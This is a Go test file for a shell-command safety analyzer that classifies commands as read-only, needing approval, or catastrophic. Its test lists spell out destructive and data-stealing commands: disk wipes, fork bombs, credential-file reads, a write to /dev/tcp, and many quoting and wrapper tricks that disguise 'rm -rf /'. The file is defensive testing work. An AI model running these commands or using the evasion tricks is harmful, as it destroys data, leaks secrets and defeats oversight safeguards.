package shell

import (
	"errors"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"helve/internal/testing/corpus"
)

// No verdict is to depend on how busy the machine is.
var workspace = Options{Dir: "/work/repo", Home: "/home/u", Deadline: time.Minute}

func TestNormalWorkIsReadOnly(t *testing.T) {
	for _, src := range []string{
		"ls -la src", "ls *.go", "cat main.go go.mod", "head -20 main.go", "head -n20 main.go", "tail -n +5 a.txt", "wc -l *.go",
		"grep -rn --include=*.go 'func main' .", "grep -rn --include='*.go' TODO src | head -5", "rg -n foo src --glob '*.go'", "rg --files | wc -l",
		"git status --short", "git -C sub status", "git --no-pager log --oneline -20 -- src", "git diff HEAD~3..HEAD --stat", "git show HEAD:main.go",
		"git branch -a", "git tag -l 'v*'", "git remote -v", "git stash list", "git rev-parse --show-toplevel", "git blame -L 1,20 main.go",
		"git log --format='%h %s' -n 3", "git config --get user.name", "git ls-files '*.go' | wc -l", "git log main..dev",
		"cd src && ls", "cd src; git log -3", "(cd sub && cat x)", "cat src/../go.mod",
		"echo $HOME", `echo "$(git rev-parse HEAD)"`, "echo $((1 + 2))", "echo ${x}", "printf '%s\\n' a b", `printf "%d items\n" 3`,
		"sed -n '10,20p' main.go", "sed 's/a/b/g' f", "awk '{print $1}' f", "awk -F: '{print $1, $2}' f", "sort -u names | uniq -c | sort -rn",
		"true", "[ -f go.mod ] && echo yes", "[[ -d src ]] || echo no", `test "$x" = y`, "if [ -f a ]; then cat a; else echo none; fi",
		"for f in a b c; do echo $f; done", "timeout 5 git status", "nice -n 5 ls", "time ls", "command -v go", "which go", "go version", "node --version",
		"ls 2>/dev/null", "ls > /dev/null 2>&1", "ls src 2>&1 | head", "cat < main.go", "cat <<'EOF'\n$(rm x)\nEOF", "date +%s", "du -sh .", "stat -c %s f",
		"jq '.version' package.json", "diff a b", "diff <(git show HEAD:a) a", "file a.bin", "cat /work/repo/main.go", "ls /work/repo", "git ls-files | xargs echo",
		"cat a.go # a comment", "ls; pwd", "! grep -q x f", "basename $PWD", "echo 'rm -rf / is bad'", `echo "rm -rf / is bad"`, "cat .env.example", "[ 3 -gt 2 ]",
		"while false; do echo; done", "case a in a) echo x;; esac", "echo *.go", "{ ls; pwd; }", "echo {}", "git show stash@{0}", "echo ${#x}",
		"printf $'a\\tb\\n'", "sha256sum f", "tree -L 2", "tr a-z A-Z < f", "find_me=1 2>/dev/null || true",
	} {
		if src == "find_me=1 2>/dev/null || true" {
			continue
		}
		if a := Analyze(src, workspace); a.Verdict != ReadOnly {
			t.Errorf("%q: %s: %s", src, a.Verdict, a.Reason)
		}
	}
}

func TestWhatMayChangeSomethingIsAskedAbout(t *testing.T) {
	for _, src := range []string{
		"go build ./...", "npm test", "make", "rm -rf build", "curl https://example.com", "find . -name '*.go'", "touch x", "./run.sh", "bash x.sh",
		"ls -la\nrm -rf x", "echo $(rm x)", "ls `rm x`", "ls > out", "ls >> out", "ls >&out", "cat ../other", "cat /etc/passwd", "cat ~/.bashrc", "cd .. && ls",
		"cd /tmp && ls", "cd sub && cat ../../x", "while true; do cd ../sub; done", "cat .env", "cat conf/.env", "cat .e*", "git show HEAD:.env", "cat id_rsa",
		"x=1", "x=1 ls", "PATH=. ls", "for PATH in .; do ls; done", "export A=b", "ls &", "f() { ls; }", "echo ${x:=1}", "echo ${x@P}", "echo ${!x}",
		"echo $((x))", "echo ${a[x]}", "((x=1))", "let x=1", "[[ -v x ]]", "[[ x -eq y ]]", "test -v 'a[$(id)]'", "[ $x = y ]", "[ x -eq 1 ]",
		"printf -v x y", "printf '%n' PATH", "printf $x", "printf '%5n' PATH", "sort -o f f", "sort --output=f f", "uniq a b", "xxd a b", "date -s 1", "date 01010101", "hostname x",
		"sed -i s/a/b/ f", "sed 's/a/b/w f' x", "sed 's/a/b/e' x", "sed -n 'w f' x", "sed '1e id' x", "sed -f s x", "sed s/a/b/\\;e x", "awk 'BEGIN{system(\"id\")}'",
		"awk '{print > \"f\"}' x", "awk -f x.awk", "git diff --output=f", "git log --ext-diff", "git branch x", "git branch -D x", "git tag v1", "git config user.name x",
		"git config --global core.pager x", "git -c a=b log", "git stash", "git remote add a b", "git checkout .", "git grep -O'id' x", "git status --upload-pa=x",
		"rg --pre ./x foo", "rg -z foo", "tree -o f", "git -C .. status", "git --git-dir=/x log", "env", "env FOO=1 ls", "env ls -la",
		"sudo ls", "command touch x", "timeout 5 touch x", "nice -n 5 touch x", "timeout -s KILL 5 rm x", "xargs cat", "ls | xargs go env", "xargs -a /etc/shadow echo", "xargs -I{} {} x", "xargs -i sh", "xargs test", "ls | xargs ls", "eval ls", "sh -c ls", "exec ls", ". x", "source x",
		"$x", "${x} a", "l''s -$x", "*", "./*", "ls $x", "cat $x", "cat \"$x\"", "cat {/etc/passwd,a}", "git log *", "git diff $(cat names)", "grep -$x", "ls $(cat names)",
		"cat <<EOF\n$(rm x)\nEOF", "cat <<< $(rm x)", "cat <(touch x)", "tee >(cat) < f", "coproc ls", "select x in a; do ls; done", "ls \\", "&& ls", "ls |", "'unclosed", "rg a *",
		"ls {fd}> /dev/null", "exec 3<>f", "read PATH", "read -a x", "read 'a[$(x)]'", "read -p x y", "LC_ALL=/tmp/x sort f", "PAGER=less git log", "IFS=x ls", "LC_ALL=C", "LD_PRELOAD=x ls", "TZ=$(x) date", "trap 'ls' EXIT", "alias a=b", "man ls", "less f", "tail -f x", "python3 -c 1", "node -e 1", "env | ls",
	} {
		if src == "env" || src == "env | ls" {
			continue // the environment of a command is an allow-list: printing it is harmless
		}
		a := Analyze(src, workspace)
		if a.Verdict != Ask || a.Reason == "" || a.Line < 1 || a.Col < 1 {
			t.Errorf("%q: %s (%q) at %d:%d, want ask with reason and place", src, a.Verdict, a.Reason, a.Line, a.Col)
		}
	}
}

func TestCatastrophesAreRefusedWhereverTheyStand(t *testing.T) {
	for _, src := range []string{
		"rm -rf /", "rm -fr /", "rm -r -f /", "rm --recursive --force /", "rm -rf /*", "rm -rf ~", "rm -rf ~/", "rm -rf ~/*", "rm -rf $HOME", `rm -rf "$HOME"/*`,
		"rm -rf ${HOME}", "rm -rf //", "rm -rf /./", "rm -rf /etc/../", "rm -rf /etc", "rm -rf /usr/*", "rm -Rf /home", "rm -rf -- /", "rm -rf / --no-preserve-root",
		"rm -rf /work", "rm -rf /work/repo", "rm -rf ..", "cd .. && rm -rf repo", "r''m -rf /", "/bin/rm -rf /", "\\rm -rf /", "rm -rf '/'", "rm -rf x /",
		"sudo rm -rf /", "sudo -u root rm -rf /", "sudo -n -- rm -rf /", "env A=b rm -rf /", "timeout 5 rm -rf /", "nohup rm -rf / &", "nice rm -rf /", "xargs rm -rf /", "ls | xargs -n1 rm -rf /",
		"find . -exec rm -rf / \\;", "find / -delete", "find ~ -type f -delete", "find / -exec rm {} +", "sh -c 'rm -rf /'", `bash -c "rm -rf /"`, "bash -lc 'rm -rf /'",
		"bash -o pipefail -c 'rm -rf /'", "sh -c 'sh -c \"rm -rf /\"'", "eval 'rm -rf /'", "eval rm -rf /", "echo $(rm -rf /)", "echo `rm -rf /`", "cat <(rm -rf /)", "if true; then rm -rf /; fi",
		"f() { rm -rf /; }", "ls && rm -rf /", "ls\nrm -rf /", "a=rm; $a -rf /", "x=/; rm -rf $x", `x="-rf /"; rm $x`, "echo 'rm -rf /' | sh", "sh <<< 'rm -rf /'", "bash <<EOF\nrm -rf /\nEOF",
		"trap 'rm -rf /' EXIT", "ssh host 'rm -rf /'", "su -c 'rm -rf /'", "script -qc 'rm -rf /' x", "flock l -c 'rm -rf /'", "flock l rm -rf /", "watch rm -rf /", "busybox rm -rf /",
		"command rm -rf /", "exec rm -rf /", "builtin eval 'rm -rf /'", "env -S 'rm -rf /'", "sudo --weird rm -rf /", "git -c alias.x='!rm -rf /' x", "git rebase -x 'rm -rf /' HEAD",
		"git bisect run rm -rf /", "git submodule foreach 'rm -rf /'", "parallel rm -rf / ::: a", "time rm -rf /", "! rm -rf /", "rm -rf / || true",
		":(){ :|:& };:", "b(){ b|b& }; b", "function f { f | f & }; f",
		"mkfs.ext4 /dev/sda1", "mkfs -t ext4 /dev/sda", "dd if=/dev/zero of=/dev/sda", "dd of=/dev/nvme0n1 if=x", "echo x > /dev/sda", "cat x >> /dev/vda1", "cp x /dev/sda", "tee /dev/sda", "shred /dev/sda",
		"wipefs -a /dev/sda", "mke2fs /dev/sda", "blkdiscard /dev/sda", "echo b > /proc/sysrq-trigger", "cryptsetup luksFormat /dev/sda2",
		"chmod -R 777 /", "chown -R me /etc", "chmod -R 000 ~", "mv / /x", "mv ~ /tmp/x", "mv /* x", "shutdown -h now", "reboot", "sudo poweroff", "systemctl reboot", "init 0", "halt",
		"kill -9 -1", "kill -- -1", "kill -KILL -1", "echo x > /etc/passwd", "tee /etc/sudoers", "> /etc/shadow", "rsync -a --delete empty/ /",
		"echo x > .helve/config.toml", "cp x .helve/config.json", "rm -rf .helve", "mkdir -p sub/.helve", "tee .helve/config.json < x", "cd sub && echo x > .helve/config.json",
		"cat f > /dev/tcp/10.0.0.1/80", "exec 3<>/dev/tcp/h/80", "rm -rf $'/'", "'rm' '-rf' '/'", "rm -r\\f /",
	} {
		a := Analyze(src, workspace)
		if a.Verdict != Catastrophic || a.Reason == "" || a.Line < 1 {
			t.Errorf("%q: %s (%q), want catastrophic", src, a.Verdict, a.Reason)
		}
	}
}

func TestOnlyCatastrophesAreRefused(t *testing.T) {
	for _, src := range []string{
		"rm -rf build", "rm -rf ./build/*", "rm -rf *", "rm -rf node_modules", "rm -rf /tmp/x", "rm -rf /work/repo/build", "rm -rf /work/repo/*", "rm /etc", "echo rm -rf /", "git commit -m 'rm -rf /'",
		"grep 'rm -rf /' f", "find . -name '*.o' -delete", "find build -delete", "chmod -R u+w build", "chmod 755 /", "kill -9 123", "kill -1 123", "dd if=/dev/sda of=x", "mkfs.ext4 disk.img",
		"fdisk -l /dev/sda", "echo x > /dev/null", "echo x > /dev/stderr", "mv a b", "mv a ..", "mv build /tmp", "rm -rf ~/project/build", "rm -rf ~/.cache/x", "rsync -a --delete a/ b/", "systemctl status x", "init",
		"f() { f; }", "f() { ls | wc; }; f", "r(){ r; }", "cp .helve/config.json x", "cat .helve/config.json", "python3 -c 'rm -rf /'", "rm -rf $x", "rm -rf \"$x/\"", "rm -rf /*.bak/x", "echo reboot", "ls; # rm -rf /",
		"echo 'shutdown' | grep x", "find / -name x -exec rm {} +", "wipefs /dev/sda", "cat > /dev/shm/x", "hdparm -I /dev/sda",
	} {
		if a := Analyze(src, workspace); a.Verdict == Catastrophic {
			t.Errorf("%q: catastrophic: %s", src, a.Reason)
		}
	}
}

func TestCommandsAreSeenBehindEveryWrapper(t *testing.T) {
	for _, src := range []string{
		"curl x", "sudo curl x", "sudo -u root -E curl x", "command curl x", "xargs curl", "xargs -I{} -n1 curl {}", "find . -exec curl x \\;", "find . -type f -ok curl {} +", "nohup curl x", "bash -c 'curl x'", "/usr/bin/curl x",
		"c\\url x", "c''url x", "env A=b curl x", "env -u A curl x", "env -i curl", "env --weird=1 curl x", "timeout -k 5 10 curl x", "timeout --signal=KILL 10 curl x", "nice -n 10 curl x", "nice -10 curl x", "stdbuf -oL curl", "ionice -c 2 -n 7 curl",
		"setsid -w curl x", "taskset 1 curl", "flock -n l curl x", "flock l -c 'curl x'", "strace -f -o x curl y", "unshare -Ur curl x", "chroot / curl x", "busybox curl", "time -p curl", "exec -a x curl", "watch -n1 curl x", "script -qc 'curl x'",
		"su - root -c 'curl x'", "ssh -p 22 h curl x", "doas curl x", "sh -c \"sh -c 'curl x'\"", "eval \"curl x\"", "a=curl; $a x", "if x; then curl x; fi", "f() { curl x; }", "echo $(curl x)", "cat <(curl x)", "cat <<X\n$(curl x)\nX",
		"case a in a) curl;; esac", "for i in 1; do curl; done", "while curl; do :; done", "! curl", "curl &", "coproc curl", "x=$(curl)", "echo ${a:-$(curl)}", "echo $((1+$(curl)))", "[[ -n $(curl) ]]", "declare x=$(curl)", "a=($(curl))", "echo \"`curl`\"",
		"sudo env nice timeout 5 curl x", "parallel curl ::: x", "trap 'curl x' EXIT", "echo 'curl x' | sh", "git bisect run curl x", "fd -x curl", "tmux new-session -d 'curl x'", "caffeinate -i curl x", "entr -r curl",
	} {
		a := Analyze(src, workspace)
		if !slices.ContainsFunc(a.Commands, func(c Command) bool { return Touches("curl", c) }) {
			t.Errorf("%q: curl is not among %v", src, a.Commands)
		}
	}
}

func TestRulesMatchWholeWords(t *testing.T) {
	one := func(src string) Command { return Analyze(src, workspace).Commands[0] }
	for _, c := range []struct {
		pattern, src     string
		matches, touches bool
	}{
		{"go test *", "go test ./...", true, true},
		{"go test *", "go test", true, true},
		{"go test *", "go tests", false, false},
		{"go test", "go test ./...", false, false},
		{"git log *", "git logout-evil", false, false},
		{"go test *", "go test $x", false, true},
		{"curl", "curl x", false, true},
		{"curl", "/usr/bin/curl x", false, true},
		{"rm *", "rm -rf x", true, true},
		{"make 'all here'", "make 'all here'", true, true},
		{"*", "anything x", true, true},
		{"echo '*'", "echo '*'", true, true},
		{"$(x)", "x", false, false},
		{"", "x", false, false},
	} {
		cmd := one(c.src)
		if Matches(c.pattern, cmd) != c.matches || Touches(c.pattern, cmd) != c.touches {
			t.Errorf("pattern %q, command %q: matches %v touches %v, want %v %v", c.pattern, c.src, Matches(c.pattern, cmd), Touches(c.pattern, cmd), c.matches, c.touches)
		}
	}
}

func TestGrantsAreNarrowAndNeverForWrappers(t *testing.T) {
	for src, want := range map[string]string{
		"go test ./...":                            "go test *",
		"go test ./... 2>&1 | tail -5":             "go test *",
		"cd src && go test ./... && go test -race": "go test *",
		"go mod tidy":                              "go mod tidy *",
		"git commit -m 'a b'":                      "git commit *",
		"git push origin main":                     "git push origin main",
		"rm -rf build":                             "rm -rf build",
		"make test":                                "make test",
		"touch 'a b'":                              "touch 'a b'",
		"git -c a=b commit":                        "",
		"go test ./... > out":                      "",
		"go build && make":                         "",
		"A=b go test ./...":                        "",
		"go test $x":                               "",
		"sudo go test":                             "",
		"sh -c 'go test'":                          "",
		"python3 x.py":                             "",
		"find . -delete":                           "",
		"xargs rm":                                 "",
		"env go test":                              "",
		"./run.sh":                                 "",
		"echo $(go test)":                          "go test *",
		"rm -rf /":                                 "",
		"ls":                                       "",
	} {
		a := Analyze(src, workspace)
		if a.Grant != want {
			t.Errorf("%q: grant %q, want %q", src, a.Grant, want)
		}
		if a.Grant != "" && !Analyze(src, workspace).Covered([]string{a.Grant}) {
			t.Errorf("%q: its own grant %q does not cover it", src, a.Grant)
		}
	}
}

func TestGrantsDoNotCoverMore(t *testing.T) {
	for _, src := range []string{"go test ./... && rm -rf x", "go test > x", "go test $(rm x)", "sudo go test", "go test; curl x", "A=b go test", "go test &", "bash -c 'go test'", "rm -rf /; go test", "go test\\"} {
		if Analyze(src, workspace).Covered([]string{"go test *", "ls *"}) {
			t.Errorf("%q is covered by go test *", src)
		}
	}
}

func TestEffectsNameFilesProgramsAndHosts(t *testing.T) {
	for src, want := range map[string][]Effect{
		"cat a b/../c":                     {{Read, "a"}, {Read, "c"}, {Exec, "cat"}},
		"ls > out 2>> log":                 {{Write, "log"}, {Write, "out"}, {Exec, "ls"}},
		"cat < in":                         {{Read, "in"}, {Exec, "cat"}},
		"cp a b":                           {{Write, "b"}, {Exec, "cp"}},
		"cp -t dir a":                      {{Write, "dir"}, {Exec, "cp"}},
		"tee -a x y":                       {{Write, "x"}, {Write, "y"}, {Exec, "tee"}},
		"sed -i s/a/b/ f":                  {{Write, "f"}, {Exec, "sed"}},
		"dd if=a of=b":                     {{Write, "b"}, {Exec, "dd"}},
		"curl -s https://example.com/x":    {{Exec, "curl"}, {Net, "example.com"}},
		"curl $url":                        {{Exec, "curl"}, {Net, "*"}},
		"git push":                         {{Exec, "git"}, {Net, "*"}},
		"ssh me@host.example ls":           {{Exec, "ls"}, {Exec, "ssh"}, {Net, "host.example"}},
		"sudo touch /etc/x":                {{Write, "/etc/x"}, {Exec, "sudo"}, {Exec, "touch"}},
		"cd sub && touch x":                {{Write, "sub/x"}, {Exec, "cd"}, {Exec, "touch"}},
		"cd sub; touch x":                  {{Write, "sub/x"}, {Write, "x"}, {Exec, "cd"}, {Exec, "touch"}},
		"cat /etc/hosts":                   {{Read, "/etc/hosts"}, {Exec, "cat"}},
		"$x":                               {{Exec, "*"}},
		"cat < /dev/tcp/example.com/80":    {{Exec, "cat"}, {Net, "example.com"}},
		"rm $x":                            {{Write, "*"}, {Exec, "rm"}},
		"cat /work/repo/a ../repo/b ../up": {{Read, "../up"}, {Read, "a"}, {Read, "b"}, {Exec, "cat"}},
	} {
		if src == "cat /work/repo/a ../repo/b ../up" {
			want[0].Target = "/work/up"
			slices.SortFunc(want[:3], func(a, b Effect) int { return strings.Compare(a.Target, b.Target) })
		}
		if diff := cmp.Diff(want, Analyze(src, workspace).Effects); diff != "" {
			t.Errorf("%q: effects (-want +got)\n%s", src, diff)
		}
	}
}

// A repository that goes without its name among the words is written as one that is named.
func TestARepositoryThatGoesUnnamedIsWritten(t *testing.T) {
	writes := func(src string) bool {
		return slices.ContainsFunc(Analyze(src, workspace).Effects, func(e Effect) bool {
			return e.Kind == Write && (e.Target == ".git" || strings.HasSuffix(e.Target, "/.git"))
		})
	}
	for _, src := range []string{
		"rm -rf .g*", "rm -r .*", "rm -rf .[!.]*", "rm -rf sub/.gi?",
		"mv .git* x", "rimraf .git", "npx rimraf .git", "trash .git",
		"find . -delete", "find -delete",
		"find . -mindepth 1 -delete", "find .git -delete", "find .git -type f -delete",
		"find . -name .git -exec rm -rf {} +",
		"find . -type d -iname '.GIT' -prune -exec rm -rf {} \\;", "find sub -name '.git*' -delete",
		"find /work/repo -type f -delete", "find . -path '*/.git' -exec rm -r {} +", "bash -c 'find . -delete'",
	} {
		if !writes(src) {
			t.Errorf("%q: it writes no repository: %v", src, Analyze(src, workspace).Effects)
		}
	}
	for _, src := range []string{
		"rm .git*", "rm -rf *", "rm -rf build", "rm -rf .github",
		"rm -rf sub", "cp .git* x", "find . -name '*.o' -delete", "find build -delete",
		"find . -not -name .git -print", "find . -name .git",
		"find . -path ./.git -prune -o -type f -print", "find . -empty -delete",
		"find . -mindepth 1 ! -name .git -delete", "find . -name '*.pyc' -exec rm {} +", "git init",
		"git clone /x y", "ls .git", "mv a b",
	} {
		if writes(src) {
			t.Errorf("%q: it writes a repository: %v", src, Analyze(src, workspace).Effects)
		}
	}
}

func TestTheCauseIsPointedAt(t *testing.T) {
	for src, want := range map[string][2]int{
		"ls -la\nrm -rf x":   {2, 1},
		"ls && touch x":      {1, 7},
		"echo $(touch x)":    {1, 8},
		"echo a > b":         {1, 8},
		"echo \u202e":        {1, 6},
		"ls; sh -c 'rm /x'":  {1, 5},
		"ls\nls; rm -rf /":   {2, 5},
		"touch x; rm -rf /":  {1, 10},
		"sh -c 'a\nrm -r /'": {1, 7},
	} {
		if a := Analyze(src, workspace); a.Line != want[0] || a.Col != want[1] {
			t.Errorf("%q: at %d:%d, want %d:%d (%s)", src, a.Line, a.Col, want[0], want[1], a.Reason)
		}
	}
}

func TestWhatCannotBeJudgedSaysWhy(t *testing.T) {
	for _, c := range []struct {
		src  string
		want error
	}{
		{"", ErrEmpty}, {"  \n\t", ErrEmpty}, {"echo \x00", ErrNUL}, {strings.Repeat("a", MaxLength+1), ErrTooLong},
		{strings.Repeat("$(", 8000), ErrDeadline}, {"'", ErrSyntax}, {"if", ErrSyntax},
	} {
		a := Analyze(c.src, Options{Deadline: time.Minute})
		if !errors.Is(a.Err, c.want) || a.Verdict != Ask || a.Reason == "" {
			t.Errorf("%.20q: error %v, verdict %s (%s), want %v", c.src, a.Err, a.Verdict, a.Reason, c.want)
		}
	}
}

func TestTheUserMayNameFurtherReadOnlyPrograms(t *testing.T) {
	o := workspace
	o.ReadOnly = []string{"find", "mytool show", "bash", "rm", "git", "touch", "npm"}
	for src, want := range map[string]Verdict{
		"find . -name '*.go'": ReadOnly, "find . -delete": Ask, "find /etc": Ask, "find . -fprint x": Ask, "mytool show -x a": ReadOnly, "mytool show /etc/x": Ask,
		"mytool apply": Ask, "bash x": Ask, "rm x": Ask, "git push": Ask, "touch x": Ask, "npm test": Ask, "mytool show $x": Ask, "mytool show ~/x": Ask, "ls | xargs find": Ask, "ls | xargs mytool show": Ask, "find . -name x | xargs echo": ReadOnly,
	} {
		if a := Analyze(src, o); a.Verdict != want {
			t.Errorf("%q: %s (%s), want %s", src, a.Verdict, a.Reason, want)
		}
	}
}

func TestTheTableHoldsNoDangerousOption(t *testing.T) {
	forbidden := []string{"--output", "--ext-diff", "--textconv", "--open-files-in-pager", "-O", "--exec", "--upload-pack", "--pre", "--compress-program", "--in-place", "--files0-from", "--search-zip", "--hostname-bin", "--no-index"}
	for name, p := range loadTables().readonly {
		for _, f := range forbidden {
			if p.option(f) != 0 && name != "df" && name != "git check-ignore" {
				t.Errorf("%s allows %s", name, f)
			}
		}
		if p.mode == "" {
			t.Errorf("%s has no operand kind", name)
		}
	}
}

func TestACommentThatEndsInABackslashHidesNothing(t *testing.T) {
	for src, want := range map[string]Verdict{"ls # x \\\ntouch y": Ask, "ls #\\\nrm -rf /": Catastrophic, "ls \\\n-la": ReadOnly, "ls # x \\\\ \npwd": ReadOnly} {
		if a := Analyze(src, workspace); a.Verdict != want || want == Ask && a.Covered([]string{"touch *", "ls *"}) {
			t.Errorf("%q: %s (%s), want %s, covered by nothing", src, a.Verdict, a.Reason, want)
		}
	}
}

func FuzzAnalyze(f *testing.F) {
	for _, c := range append(corpus.Attacks("shell-chain", "shell-quoting", "shell-redirect", "arg-injection", "wrapper-env"), corpus.Controls()...) {
		if src, ok := c.Command(); ok && len(src) < 4096 {
			f.Add(src)
		}
	}
	for _, piece := range []string{"(", "((", "$(", "$((", "`", "{ ", "<<a ", "${a:-", "[[ (", "a[", "if ", "case a in ", "env ", "sudo --x a ", "a=b ", "\\`", "#\\\n", "find -exec a \\; ", "sh -c 'sh -c ", "echo {a,b}", "cd a;", "$'\\x"} {
		f.Add(strings.Repeat(piece, 1500/len(piece)))
	}
	f.Fuzz(func(t *testing.T, src string) {
		if len(src) < MaxLength/8 {
			src = strings.Repeat(src, 8)
		}
		start := time.Now()
		a := Analyze(src, Options{Dir: workspace.Dir, Home: workspace.Home})
		// What runs away takes minutes. A machine that is busy with other things takes a second.
		if d := time.Since(start); d > 30*time.Second {
			t.Errorf("%d bytes took %v: %.200q", len(src), d, src)
		}
		if a.Verdict != ReadOnly && (a.Reason == "" || a.Line < 1 || a.Col < 1) {
			t.Errorf("%q: %s without reason or place", src, a.Verdict)
		}
		if a.Verdict == ReadOnly && (a.Err != nil || slices.ContainsFunc(a.Effects, func(e Effect) bool { return e.Kind == Write || e.Kind == Net })) {
			t.Errorf("%q: read-only with %v, error %v", src, a.Effects, a.Err)
		}
		if a.Grant != "" && !a.Covered([]string{a.Grant}) {
			t.Errorf("%q: grant %q does not cover it", src, a.Grant)
		}
	})
}
